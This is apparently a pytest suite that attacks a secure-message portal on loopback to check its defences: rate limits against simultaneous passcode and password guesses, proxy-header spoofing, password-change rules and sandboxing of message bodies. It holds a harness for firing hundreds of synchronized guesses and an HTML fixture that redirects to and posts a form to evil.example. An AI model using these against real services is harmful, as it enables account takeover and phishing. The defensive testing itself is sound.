"""Attacks on the portal over real HTTP on loopback, each reproducing what an outside attack run
did: hundreds of parallel guesses whose request bodies are released at the same instant, a
password replaced from a passcode session, a client address forged behind the proxy, the body
URL opened on its own, and a message whose charset does not exist."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from email.message import EmailMessage
from pathlib import Path
from urllib.parse import urlencode

import pytest
from aiohttp.test_utils import TestClient, TestServer

from gateway.audit.events import Audit
from gateway.audit.log import AuditLog
from gateway.config import PortalConfig
from gateway.portal import passcode
from gateway.portal.passwords import RecipientPasswords
from gateway.portal.store import PortalMessage, PortalStore, Tombstone, open_store
from gateway.portal.web import PortalApp
from gateway.typedyaml import IPNetwork
from tests.polling import eventually
from tests.portal.test_web import CONTENT, csrf_of

PASSWORD = "correct horse battery"


class CountingStore(PortalStore):
    """The real store, counting loads: a request has reached its handler when it loaded the
    record, which is how the test knows every request is parked waiting for its body."""

    loads = 0

    def load(self, message_id: str) -> tuple[PortalMessage, bytes] | Tombstone | None:
        self.loads += 1
        return super().load(message_id)


@dataclass
class Outbox:
    codes: list[tuple[str, str]] = field(default_factory=list)
    notices: list[tuple[str, str]] = field(default_factory=list)

    async def code(self, record: PortalMessage, code: str) -> None:
        self.codes.append((record.recipient, code))

    async def notice(self, record: PortalMessage, subject: str, text: str) -> None:
        self.notices.append((record.recipient, subject))

    async def reply(self, record: PortalMessage, original: EmailMessage, text: str) -> None:
        raise AssertionError("no reply is sent in these tests")


@dataclass
class Portal:
    client: TestClient
    store: CountingStore
    outbox: Outbox
    token: str
    message_id: str
    audit_dir: Path


async def start_portal(tmp_path: Path, config: PortalConfig, content: bytes = CONTENT) -> Portal:
    plain = open_store(tmp_path / "portal", tmp_path / "portal.key", create_key=True)
    store = CountingStore(plain.records, plain.keyring)
    token, record = store.store(content, recipient="pat@example.org", sender="dr@clinic.example", ttl=3600)
    outbox = Outbox()
    audit = Audit(AuditLog(tmp_path / "audit", b"k" * 32))
    app = PortalApp(store, config, send_code=outbox.code, send_reply=outbox.reply,
                    send_notice=outbox.notice, audit=audit).application()
    client = TestClient(TestServer(app, host="127.0.0.1"))
    await client.start_server()
    return Portal(client, store, outbox, token, record.message_id, tmp_path / "audit")


@pytest.fixture
async def portal(tmp_path: Path) -> AsyncIterator[Portal]:
    started = await start_portal(tmp_path, PortalConfig())
    yield started
    await started.client.close()


async def send_code(portal: Portal, headers: dict[str, str] | None = None) -> tuple[str, int]:
    """Ask for a passcode; the CSRF token of the page, and the answer's status."""
    page = await (await portal.client.get(f"/m/{portal.token}")).text()
    response = await portal.client.post(f"/m/{portal.token}/code", data={"csrf": csrf_of(page)},
                                        headers=headers or {})
    return csrf_of(await response.text()), response.status


async def released_together(portal: Portal, path: str, forms: list[dict[str, str]],
                            cookies: str) -> list[tuple[int, str]]:
    """POST every form on its own connection; each body's last byte is held back until every
    request has reached its handler, then all are released at once. (status, body) each."""
    server = portal.client.server
    assert server.host is not None and server.port is not None
    requests = []
    for form in forms:
        body = urlencode(form).encode()
        requests.append((f"POST {path} HTTP/1.1\r\nHost: {server.host}\r\nConnection: close\r\n"
                         f"Cookie: {cookies}\r\n"
                         "Content-Type: application/x-www-form-urlencoded\r\n"
                         f"Content-Length: {len(body)}\r\n\r\n").encode() + body)
    before = portal.store.loads
    connections = [await asyncio.open_connection(server.host, server.port) for _ in requests]
    for (_, writer), request in zip(connections, requests, strict=True):
        writer.write(request[:-1])
    await asyncio.gather(*(writer.drain() for _, writer in connections))
    await eventually(lambda: portal.store.loads - before >= len(requests), timeout=30)
    for (_, writer), request in zip(connections, requests, strict=True):
        writer.write(request[-1:])
    answers = await asyncio.wait_for(asyncio.gather(*(reader.read() for reader, _ in connections)), 60)
    for _, writer in connections:
        writer.close()
    results = []
    for answer in answers:
        head, _, body = answer.partition(b"\r\n\r\n")
        results.append((int(head.split()[1]), body.decode("utf-8", "replace")))
    return results


def jar(portal: Portal) -> str:
    return "; ".join(f"{c.key}={c.value}" for c in portal.client.session.cookie_jar)


def record_of(portal: Portal) -> PortalMessage:
    found = portal.store.load(portal.message_id)
    assert isinstance(found, tuple)
    return found[0]


async def test_hundreds_of_parallel_wrong_passcodes_lock_and_kill_the_code(portal: Portal) -> None:
    csrf, _ = await send_code(portal)
    [(_, code)] = portal.outbox.codes
    wrong = [f"{(int(code) + n) % 10**6:06d}" for n in range(1, 300)]
    forms = [{"csrf": csrf, "code": guess} for guess in [*wrong[:150], code, *wrong[150:]]]
    results = await released_together(portal, f"/m/{portal.token}/verify", forms, jar(portal))
    answered_wrong = sum("That passcode is not right" in body for _, body in results)
    opened = sum(status == 303 for status, _ in results)
    # Each guess was counted: at most MAX_FAILURES - 1 were answered "wrong" before the lock.
    assert answered_wrong <= passcode.MAX_FAILURES - 1, answered_wrong
    assert opened <= 1
    record = record_of(portal)
    assert record.code_hash == ""  # used or dropped by the lock: the code opens nothing now
    again = await portal.client.post(f"/m/{portal.token}/verify", data={"csrf": csrf, "code": code},
                                     allow_redirects=False)
    assert again.status != 303


async def test_a_passcode_opens_the_message_once_however_many_requests_carry_it(portal: Portal) -> None:
    csrf, _ = await send_code(portal)
    [(_, code)] = portal.outbox.codes
    results = await released_together(portal, f"/m/{portal.token}/verify",
                                      [{"csrf": csrf, "code": code}] * 200, jar(portal))
    assert sum(status == 303 for status, _ in results) == 1


async def test_parallel_password_guesses_are_each_counted(portal: Portal) -> None:
    await asyncio.to_thread(RecipientPasswords(portal.store.password_hashes()).set,
                            "pat@example.org", PASSWORD)
    page = await (await portal.client.get(f"/m/{portal.token}")).text()
    csrf = csrf_of(page)
    forms = [{"csrf": csrf, "password": f"wrong guess number {n}"} for n in range(39)]
    forms.insert(30, {"csrf": csrf, "password": PASSWORD})
    results = await released_together(portal, f"/m/{portal.token}/password", forms, jar(portal))
    answered_wrong = sum("That password is not right" in body for _, body in results)
    opened = sum(status == 303 for status, _ in results)
    # Counted before answered: at most MAX_FAILURES - 1 wrong on each side of the one success.
    assert answered_wrong <= 2 * (passcode.MAX_FAILURES - 1), answered_wrong
    assert opened <= 1
    assert passcode.locked(record_of(portal))  # 39 wrong guesses cannot all have been free


async def open_with_code(portal: Portal) -> str:
    csrf, _ = await send_code(portal)
    code = portal.outbox.codes[-1][1]
    response = await portal.client.post(f"/m/{portal.token}/verify", data={"csrf": csrf, "code": code})
    assert response.url.path.endswith("/read")
    return csrf_of(await response.text())


async def test_an_existing_password_is_not_replaced_from_a_passcode_session_alone(portal: Portal) -> None:
    passwords = RecipientPasswords(portal.store.password_hashes())
    await asyncio.to_thread(passwords.set, "pat@example.org", PASSWORD)
    csrf = await open_with_code(portal)
    response = await portal.client.post(f"/m/{portal.token}/set-password",
                                        data={"csrf": csrf, "password": "attacker's new password"})
    assert "not your current password" in await response.text()
    assert await asyncio.to_thread(passwords.check, "pat@example.org", PASSWORD)
    assert portal.outbox.notices == []


async def test_the_current_password_changes_it_and_the_recipient_is_told(portal: Portal) -> None:
    passwords = RecipientPasswords(portal.store.password_hashes())
    await asyncio.to_thread(passwords.set, "pat@example.org", PASSWORD)
    csrf = await open_with_code(portal)
    response = await portal.client.post(f"/m/{portal.token}/set-password",
                                        data={"csrf": csrf, "current": PASSWORD,
                                              "password": "a brand new password"})
    assert "Your password is set" in await response.text()
    assert await asyncio.to_thread(passwords.check, "pat@example.org", "a brand new password")
    assert portal.outbox.notices == [("pat@example.org", "Your secure message password was changed")]


async def test_a_fresh_passcode_mailed_to_the_address_changes_a_forgotten_password(portal: Portal) -> None:
    passwords = RecipientPasswords(portal.store.password_hashes())
    await asyncio.to_thread(passwords.set, "pat@example.org", PASSWORD)
    csrf = await open_with_code(portal)
    asked = await portal.client.post(f"/m/{portal.token}/password-code", data={"csrf": csrf})
    assert 'name="code"' in await asked.text()
    code = portal.outbox.codes[-1][1]
    stale = await portal.client.post(f"/m/{portal.token}/set-password",
                                     data={"csrf": csrf, "code": f"{(int(code) + 1) % 10**6:06d}",
                                           "password": "a brand new password"})
    assert "not your current password" in await stale.text()
    done = await portal.client.post(f"/m/{portal.token}/set-password",
                                    data={"csrf": csrf, "code": code, "password": "a brand new password"})
    assert "Your password is set" in await done.text()
    assert await asyncio.to_thread(passwords.check, "pat@example.org", "a brand new password")
    assert len(portal.outbox.notices) == 1


def audited_clients(portal: Portal) -> list[str]:
    records = [json.loads(line) for path in sorted(portal.audit_dir.glob("audit-*.jsonl"))
               for line in path.read_text().splitlines()]
    return [r["client"] for r in records if r["event"] == "portal_code_sent"]


async def test_behind_a_trusted_proxy_each_client_has_its_own_passcode_limit(tmp_path: Path) -> None:
    portal = await start_portal(tmp_path, PortalConfig(trusted_proxies=(IPNetwork("127.0.0.0/8"),)))
    try:
        attacker = {"X-Forwarded-For": "198.51.100.7"}
        statuses = [await send_code(portal, attacker) for _ in range(4)]
        assert len(portal.outbox.codes) == passcode.MAX_SENDS and all(s == 200 for _, s in statuses)
        # The per-message limit is spent; a new message shows the per-client limit is the attacker's.
        for _ in range(12):
            portal.token, _ = portal.store.store(CONTENT, recipient="x@example.org", sender="d@c.example",
                                                 ttl=3600)
            await send_code(portal, attacker)
        sent = len(portal.outbox.codes)
        portal.token, _ = portal.store.store(CONTENT, recipient="pat@example.org", sender="d@c.example",
                                             ttl=3600)
        await send_code(portal, {"X-Forwarded-For": "203.0.113.9, 127.0.0.1"})
        assert len(portal.outbox.codes) == sent + 1  # another visitor is not locked out with the attacker
        assert set(audited_clients(portal)) == {"198.51.100.7", "203.0.113.9"}
    finally:
        await portal.client.close()


async def test_x_forwarded_for_from_an_untrusted_peer_is_ignored(portal: Portal) -> None:
    await send_code(portal, {"X-Forwarded-For": "198.51.100.7"})
    assert audited_clients(portal) == ["127.0.0.1"]


HTML_BODY = (b"From: dr@clinic.example\r\nTo: pat@example.org\r\nSubject: Results\r\nMIME-Version: 1.0\r\n"
             b"Content-Type: text/html; charset=utf-8\r\n\r\n"
             b"<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"></head>"
             b"<body><form action=\"https://evil.example/\"><input name=p></form>Results</body></html>\r\n")


async def test_the_body_url_answers_only_as_a_sandboxed_frame(tmp_path: Path) -> None:
    portal = await start_portal(tmp_path, PortalConfig(), HTML_BODY)
    try:
        await open_with_code(portal)
        alone = await portal.client.get(f"/m/{portal.token}/body", headers={"Sec-Fetch-Dest": "document"})
        assert alone.status == 403 and "evil.example" not in await alone.text()
        assert (await portal.client.get(f"/m/{portal.token}/body")).status == 403
        framed = await portal.client.get(f"/m/{portal.token}/body", headers={"Sec-Fetch-Dest": "iframe"})
        markup = await framed.text()
        policy = framed.headers["Content-Security-Policy"]
        assert framed.status == 200 and "Results" in markup
        assert policy.startswith("sandbox;") and "form-action 'none'" in policy
        assert "refresh" not in markup.lower()
    finally:
        await portal.client.close()


UNKNOWN_CHARSET = (b"From: dr@clinic.example\r\nTo: pat@example.org\r\nSubject: Results\r\n"
                   b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=x-no-such-charset\r\n\r\n"
                   b"Your results are normal.\r\n")


async def test_a_message_in_an_unknown_charset_is_shown_not_an_error(tmp_path: Path) -> None:
    portal = await start_portal(tmp_path, PortalConfig(), UNKNOWN_CHARSET)
    try:
        await open_with_code(portal)
        page = await portal.client.get(f"/m/{portal.token}/read")
        assert page.status == 200 and "Your results are normal." in await page.text()
    finally:
        await portal.client.close()


async def test_an_unexpected_error_page_carries_the_security_headers(portal: Portal) -> None:
    path = portal.store.records.directory / f"{portal.message_id}.msg"
    path.unlink()
    path.mkdir()  # reading it now fails in a way no handler expects
    response = await portal.client.get(f"/m/{portal.token}")
    assert response.status == 500 and "Something went wrong" in await response.text()
    assert "default-src 'none'" in response.headers["Content-Security-Policy"]
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Frame-Options"] == "DENY"
